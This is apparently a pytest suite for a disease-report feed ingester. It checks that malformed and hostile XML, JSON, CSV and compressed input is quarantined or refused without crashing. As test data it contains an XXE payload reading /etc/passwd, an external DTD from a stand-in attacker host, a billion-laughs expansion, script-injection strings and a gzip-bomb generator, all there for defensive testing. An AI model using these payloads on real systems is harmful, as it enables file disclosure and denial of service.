"""Hostile and broken input, per format: each case ends in a clear quarantine reason or a
retryable/fatal error, never a crash, and no good record of the same payload is lost.

Payloads are built here from the real recordings (ECDC RSS, WHO DON JSON, ProMED CSV); the large
ones (50 MB body, gzip bomb) are generated in the test, never committed.
"""

from __future__ import annotations

import json
import zlib
from collections.abc import Iterator
from pathlib import Path

import httpx
import pytest

from biotracker.config import BUNDLED_RECORDINGS, Settings
from biotracker.errors import FatalFetchError, RecordError
from biotracker.ingest.dates import parse_when
from biotracker.ingest.dropfolder import DroppedFile, RefusedFile, read_drop_folder
from biotracker.ingest.registry import get_connector
from biotracker.ingest.replay import Interaction, ReplayServer
from biotracker.normalise.run import normalise_payload
from biotracker.testing.transport import mock_client, replay_client

ECDC = (BUNDLED_RECORDINGS / "ecdc" / "feed.xml").read_bytes()
WHO = (BUNDLED_RECORDINGS / "who_don" / "page1.json").read_bytes()
PROMED = (BUNDLED_RECORDINGS / "promed" / "2021-10-18-1334-promed.csv").read_bytes()
SHA = "a" * 64


def normalise(source: str, body: bytes):
    reports, quarantined, skipped = normalise_payload(get_connector(source), body, SHA)
    return reports, quarantined


def reasons(quarantined) -> str:
    return " | ".join(q.reason for q in quarantined)


# --- XML: entities are refused before feedparser sees the bytes -----------------------------------

XXE = b"""<?xml version="1.0"?>
<!DOCTYPE rss [<!ENTITY secret SYSTEM "file:///etc/passwd">]>
<rss version="2.0"><channel><title>t</title>
<item><title>&secret;</title><link>https://example.org/1</link><guid>1</guid></item>
</channel></rss>"""

EXTERNAL_DTD_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE rss [<!ENTITY % remote SYSTEM "http://attacker.invalid/evil.dtd"> %remote;]>
<rss version="2.0"><channel><title>t</title></channel></rss>"""

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<rss version="2.0"><channel><title>&lol9;</title>
<item><title>&lol9;</title><link>https://example.org/1</link><guid>1</guid></item></channel></rss>"""


@pytest.mark.parametrize("payload", [XXE, EXTERNAL_DTD_ENTITY, BILLION_LAUGHS], ids=["xxe", "external-dtd", "billion-laughs"])
def test_xml_entities_are_never_expanded_and_the_items_using_them_are_quarantined(payload: bytes) -> None:
    reports, quarantined = normalise("ecdc", payload)
    assert reports == []
    assert quarantined[0].what == "payload" and "DTD entities" in quarantined[0].reason
    assert [q.what for q in quarantined[1:]] == (["item 0"] if b"<item>" in payload else [])
    assert all("root:" not in q.excerpt and "lollol" not in q.excerpt for q in quarantined)


def test_one_xxe_item_costs_only_that_item() -> None:
    with_dtd = ECDC.replace(
        b'<?xml version="1.0" encoding="UTF-8"?>',
        b'<?xml version="1.0" encoding="UTF-8"?>\n<!DOCTYPE rss [<!ENTITY secret SYSTEM "file:///etc/passwd">]>', 1)
    third_title = with_dtd.index(b"<title>", with_dtd.index(b"<item>", with_dtd.index(b"<item>") + 1) + 1)
    hostile = with_dtd[: third_title + 7] + b"&secret;" + with_dtd[third_title + 7:]
    reports, quarantined = normalise("ecdc", hostile)
    full, _ = normalise("ecdc", ECDC)
    assert [r.report_id for r in reports] == [r.report_id for r in full][:1] + [r.report_id for r in full][2:]
    assert [q.what for q in quarantined] == ["payload", "item 1"]
    assert "&secret;" in quarantined[1].excerpt and "root:" not in quarantined[1].excerpt


def test_truncated_xml_keeps_the_items_before_the_break() -> None:
    cut = ECDC[: ECDC.index(b"<item>", ECDC.index(b"</item>") + 1) + 30]  # second item broken off
    reports, quarantined = normalise("ecdc", cut)
    full, _ = normalise("ecdc", ECDC)
    assert [r.report_id for r in reports] == [full[0].report_id]
    payload_level = [q for q in quarantined if q.what == "payload"]
    assert len(payload_level) == 1 and "cut off or broken after its last complete item" in payload_level[0].reason
    assert reports[0].model_dump() == full[0].model_dump()  # the item before the break, exactly as it was
    assert all(q.reason for q in quarantined)  # the half item, if any, is quarantined with its reason


def test_a_broken_item_in_the_middle_costs_only_that_item() -> None:
    second = ECDC.index(b"<item>", ECDC.index(b"<item>") + 1)
    broken = ECDC[: second + 6] + b"<title>unclosed <b>bold</title>" + ECDC[second + 6:]
    reports, quarantined = normalise("ecdc", broken)
    full, _ = normalise("ecdc", ECDC)
    assert [r.model_dump() for r in reports] == [r.model_dump() for r in full[:1] + full[2:]]
    assert [q.what for q in quarantined] == ["item 1"] and "not well-formed XML" in quarantined[0].reason


def test_html_error_page_served_as_a_feed_is_quarantined_with_the_reason() -> None:
    page = b"<!DOCTYPE html><html><head><title>503 Service Unavailable</title></head><body><p>Try later</body></html>"
    reports, quarantined = normalise("ecdc", page)
    assert reports == [] and "HTML page" in reasons(quarantined)


def test_xml_that_is_not_a_feed_is_refused() -> None:
    reports, quarantined = normalise("ecdc", b"<?xml version='1.0'?><error><code>42</code></error>")
    assert reports == [] and "not a feed (root element <error>)" in reasons(quarantined)


def test_invalid_utf8_inside_a_feed_is_flagged_and_other_items_land() -> None:
    broken = ECDC.replace(b"Data for the maps", b"Data for the \xff\xfe maps", 1)
    reports, quarantined = normalise("ecdc", broken)
    full, _ = normalise("ecdc", ECDC)
    assert [r.model_dump() for r in reports] == [r.model_dump() for r in full[1:]]  # others exactly as before
    assert [q.what for q in quarantined] == ["item 0"] and "not valid text" in quarantined[0].reason


@pytest.mark.parametrize("control", [b"\x00", b"\x1b", b"&#0;", b"&#x1F;"])
def test_a_control_character_xml_forbids_costs_only_its_item(control: bytes) -> None:
    broken = ECDC.replace(b"Data for the maps", b"Data for the " + control + b" maps", 1)
    reports, quarantined = normalise("ecdc", broken)
    full, _ = normalise("ecdc", ECDC)
    assert [r.model_dump() for r in reports] == [r.model_dump() for r in full[1:]]
    assert [q.what for q in quarantined] == ["item 0"] and "control character" in quarantined[0].reason


def test_script_and_markup_in_titles_never_reach_a_report() -> None:
    hostile = ECDC.replace(
        b"<title>Data for the maps",
        b"<title>&lt;script&gt;alert(document.cookie)&lt;/script&gt;&lt;b onmouseover=x()&gt;Data for the maps", 1)
    reports, quarantined = normalise("ecdc", hostile)
    assert not quarantined
    titles = [r.title for r in reports]
    assert any(t.startswith("Data for the maps") for t in titles)
    assert not any("<" in t or "alert(" in t for t in titles)


def test_item_dated_after_the_feed_was_built_is_quarantined_others_land() -> None:
    body = (BUNDLED_RECORDINGS / "cdc_han" / "han.rss").read_bytes()
    future = body.replace(b"<pubDate>Tue, 25 Jun 2024 17:00:00 GMT</pubDate>",
                          b"<pubDate>Tue, 25 Jun 2099 17:00:00 GMT</pubDate>")
    reports, quarantined = normalise("cdc_han", future)
    assert len(reports) == 2
    assert len(quarantined) == 1 and "in the future" in quarantined[0].reason


def test_implausible_and_unreadable_dates_are_quarantined() -> None:
    body = ECDC.replace(b"Thu, 10 Dec 2020 13:00:00 +0100", b"the day after tomorrow", 1)
    body = body.replace(b"Thu, 10 Dec 2020 13:00:00 +0100", b"Thu, 10 Dec 9999 13:00:00 +0100", 1)
    reports, quarantined = normalise("ecdc", body)
    assert len(reports) == 8
    text = reasons(quarantined)
    assert "is not a date" in text and "outside 1900-2100" in text


@pytest.mark.parametrize(("text", "iso"), [
    ("Thu, 10 Dec 2020 13:00:00 +0100", "2020-12-10T12:00:00+00:00"),
    ("2020-12-10T13:00:00+01:00", "2020-12-10T12:00:00+00:00"),
    ("20201210T120000Z", "2020-12-10T12:00:00+00:00"),
    ("10/12/2020", "2020-12-10T00:00:00+00:00"),
    ("2020/12/10", "2020-12-10T00:00:00+00:00"),
    ("2020-12-10", "2020-12-10T00:00:00+00:00"),
])
def test_odd_but_unambiguous_date_formats_are_read(text: str, iso: str) -> None:
    assert parse_when(text).isoformat() == iso


def test_a_date_that_is_not_a_date_raises_a_record_error() -> None:
    with pytest.raises(RecordError, match="is not a date"):
        parse_when("31/31/2020")


# --- JSON ------------------------------------------------------------------------------------------

def test_truncated_json_is_quarantined_with_the_reason() -> None:
    reports, quarantined = normalise("who_don", WHO[: len(WHO) // 2])
    assert reports == [] and "not valid JSON" in reasons(quarantined)


def test_invalid_utf8_in_one_json_item_quarantines_that_item_only() -> None:
    reports, quarantined = normalise("who_don", WHO[:1000] + b"\xc3\x28" + WHO[1000:])
    assert len(reports) == 49
    assert [q.what for q in quarantined] == ["item 0"]
    assert "byte that is not valid text" in quarantined[0].reason and "0xc3" in quarantined[0].reason


def test_json_with_a_changed_shape_says_so() -> None:
    reports, quarantined = normalise("who_don", b'{"items": []}')
    assert reports == [] and "no list under 'value'" in reasons(quarantined)


def test_json_item_without_its_key_is_quarantined_while_the_others_land() -> None:
    doc = json.loads(WHO)
    doc["value"][3].pop("DonId")
    reports, quarantined = normalise("who_don", json.dumps(doc).encode())
    assert len(reports) == 49
    assert len(quarantined) == 1 and "primary key" in quarantined[0].reason


def test_html_served_as_json_is_quarantined() -> None:
    reports, quarantined = normalise("who_don", b"<html><body>Bad gateway</body></html>")
    assert reports == [] and "payload is an HTML page" in reasons(quarantined)


# --- CSV -------------------------------------------------------------------------------------------

def test_truncated_csv_loses_only_the_broken_row() -> None:
    cut = PROMED[: PROMED.rindex(b",")]  # last row broken off mid-field
    reports, quarantined = normalise("promed", cut)
    assert len({r.source_id.split("#")[0] for r in reports}) == 19  # round-ups fan out per country
    assert len(quarantined) == 1 and "fields, the header has 3" in quarantined[0].reason


def test_invalid_utf8_in_a_csv_row_quarantines_that_row_only() -> None:
    lines = PROMED.splitlines(keepends=True)
    broken = b"".join(lines[:5] + [lines[5].replace(b"Bluetongue", b"Blu\xe4tongue", 1)] + lines[6:])
    reports, quarantined = normalise("promed", broken)
    full, _ = normalise("promed", PROMED)
    assert len(reports) == len(full) - 1
    assert len(quarantined) == 1 and quarantined[0].what == "line 6"
    assert "not valid text" in quarantined[0].reason and "\udce4" not in quarantined[0].excerpt


def test_invalid_utf8_in_a_csv_header_refuses_the_payload_with_the_reason() -> None:
    reports, quarantined = normalise("promed", PROMED.replace(b'"date"', b'"d\xffate"', 1))
    assert reports == [] and "CSV header holds a byte" in reasons(quarantined)


def test_csv_with_script_in_a_caption_is_made_plain_text() -> None:
    body = PROMED.replace(b'"Lassa fever', b'"<script>steal()</script>Lassa fever')
    reports, quarantined = normalise("promed", body)
    assert not quarantined
    assert any(r.title.startswith("Lassa fever") for r in reports)
    assert not any("script" in r.title for r in reports)


# --- transport: size caps and compression bombs -----------------------------------------------------

def _settings(tmp_path: Path, **kw) -> Settings:
    return Settings(home=tmp_path, **kw)


def test_a_50_mb_body_with_declared_length_is_refused(tmp_path: Path) -> None:
    url = "https://feeds.example.org/huge.json"
    with ReplayServer([Interaction(url=url, body=b"x" * (50 * 1024 * 1024), content_type="application/json")]) as srv:
        with replay_client(_settings(tmp_path), srv) as client:
            with pytest.raises(FatalFetchError, match="over the 20971520-byte cap"):
                client.get(url)


def test_a_50_mb_streamed_body_without_length_is_cut_off(tmp_path: Path) -> None:
    sent = []

    def chunks() -> Iterator[bytes]:
        for _ in range(50):
            sent.append(1)
            yield b"y" * (1024 * 1024)

    def handler(request: httpx.Request) -> httpx.Response:
        return httpx.Response(200, stream=_Stream(chunks()))

    with mock_client(_settings(tmp_path), handler) as client:
        with pytest.raises(FatalFetchError, match="sent more than 20971520 bytes"):
            client.get("https://feeds.example.org/stream")
    assert len(sent) < 50  # reading stopped at the cap, the rest was never pulled


class _Stream(httpx.SyncByteStream):
    def __init__(self, parts: Iterator[bytes]) -> None:
        self._parts = parts

    def __iter__(self) -> Iterator[bytes]:
        yield from self._parts


def _gzip_bomb(expanded_mb: int) -> bytes:
    """A gzip body of ``expanded_mb`` MiB of zeros (a few dozen KiB on the wire)."""
    packer = zlib.compressobj(9, zlib.DEFLATED, 31)
    block = b"\0" * (1024 * 1024)
    return b"".join(packer.compress(block) for _ in range(expanded_mb)) + packer.flush()


def test_a_gzip_bomb_is_refused_at_the_decompressed_cap(tmp_path: Path) -> None:
    bomb = _gzip_bomb(96)
    assert len(bomb) < 200_000
    url = "https://feeds.example.org/bomb.xml"
    interaction = Interaction(url=url, body=bomb, content_type="application/rss+xml",
                              headers={"Content-Encoding": "gzip"})
    with ReplayServer([interaction]) as srv:
        with replay_client(_settings(tmp_path), srv) as client:
            with pytest.raises(FatalFetchError, match="expands to more than 67108864 bytes after decompression"):
                client.get(url)


def test_an_honest_gzip_body_is_decompressed(tmp_path: Path) -> None:
    url = "https://feeds.example.org/feed.xml"
    interaction = Interaction(url=url, body=_gzip_bytes(ECDC),
                              content_type="application/rss+xml", headers={"Content-Encoding": "gzip"})
    with ReplayServer([interaction]) as srv:
        with replay_client(_settings(tmp_path), srv) as client:
            assert client.get(url).body == ECDC


def _gzip_bytes(data: bytes) -> bytes:
    packer = zlib.compressobj(9, zlib.DEFLATED, 31)
    return packer.compress(data) + packer.flush()


def test_a_corrupt_gzip_body_is_fatal_not_a_crash(tmp_path: Path) -> None:
    url = "https://feeds.example.org/corrupt.xml"
    interaction = Interaction(url=url, body=b"\x1f\x8b\x08\x00garbage-not-deflate", headers={"Content-Encoding": "gzip"})
    with ReplayServer([interaction]) as srv:
        with replay_client(_settings(tmp_path), srv) as client:
            with pytest.raises(FatalFetchError, match="cannot be decompressed"):
                client.get(url)


def test_an_oversized_dropped_file_is_refused_and_the_others_are_read(tmp_path: Path) -> None:
    folder = tmp_path / "police_reports"
    folder.mkdir()
    with (folder / "a-huge.csv").open("wb") as fh:
        fh.truncate(50 * 1024 * 1024)  # 50 MB, generated here
    (folder / "b-small.csv").write_bytes(b"report_id\nX-1\n")
    first, second = read_drop_folder(folder, ("*.csv",), Settings().http_max_bytes)
    assert isinstance(first, RefusedFile) and "over the 20971520-byte cap" in first.reason
    assert isinstance(second, DroppedFile) and second.body == b"report_id\nX-1\n"
